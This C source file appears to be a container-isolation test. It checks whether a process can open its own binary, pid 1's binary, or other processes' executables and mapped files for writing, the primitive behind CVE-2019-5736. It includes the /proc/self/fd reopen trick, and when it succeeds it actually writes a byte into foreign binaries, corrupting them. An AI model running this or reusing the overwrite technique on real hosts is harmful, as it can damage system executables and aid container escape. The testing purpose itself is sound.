// build: static-pie
// Tries to write to the program files that run it (as CVE-2019-5736 did): its own, those of pid 1, and
// those of every process it can see. Says what it could open.
#include "check.h"
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>

static int opened;

// Writes only to what is not a file of the container, so that its own programs stay whole.
static void report(int fd, const char *path, const char *way, const char *target, int len)
{
    struct stat here;
    char name[4097];
    snprintf(name, sizeof name, "%.*s", len, target);
    int is_own = stat(name, &here) == 0;
    opened++;
    SAY("%s opened to %s: %s file %s", path, way, is_own ? "own" : "foreign", name);
    if (!is_own && write(fd, "#", 1) == 1)
        SAY("wrote to %s", name);
    close(fd);
}

static void attempt(const char *path)
{
    static const int ways[] = { O_WRONLY, O_RDWR, O_WRONLY | O_APPEND };
    static const char *names[] = { "write", "read and write", "append" };
    char target[4096];
    ssize_t len = readlink(path, target, sizeof target - 1);
    if (len < 0)
        return;
    for (int i = 0; i < 3; i++) {
        int fd = open(path, ways[i]);
        if (fd < 0)
            continue;
        report(fd, path, names[i], target, (int)len);
    }
    // The way around "text file busy": keep a read-only descriptor, open it again through /proc.
    int fd = open(path, O_PATH);
    if (fd >= 0) {
        char again[64];
        snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
        int writable = open(again, O_WRONLY);
        if (writable >= 0)
            report(writable, path, "write through a descriptor", target, (int)len);
        close(fd);
    }
}

int main(void)
{
    char path[300];
    attempt("/proc/self/exe");
    DIR *proc = opendir("/proc");
    MUST(proc);
    struct dirent *entry;
    while ((entry = readdir(proc))) {
        if (atoi(entry->d_name) <= 0)
            continue;
        snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        attempt(path);
        // Mapped files can be opened through map_files, too.
        snprintf(path, sizeof path, "/proc/%s/map_files", entry->d_name);
        DIR *maps = opendir(path);
        struct dirent *map;
        while (maps && (map = readdir(maps))) {
            char file[600];
            snprintf(file, sizeof file, "%s/%s", path, map->d_name);
            int fd = map->d_name[0] == '.' ? -1 : open(file, O_WRONLY);
            if (fd >= 0) {
                char target[4096] = "";
                ssize_t len = readlink(file, target, sizeof target - 1);
                MUST(len > 0);
                report(fd, file, "write", target, (int)len);
            }
        }
        if (maps)
            closedir(maps);
    }
    SAY("%s", opened ? "something could be opened to write" : "nothing could be opened to write");
    return 0;
}
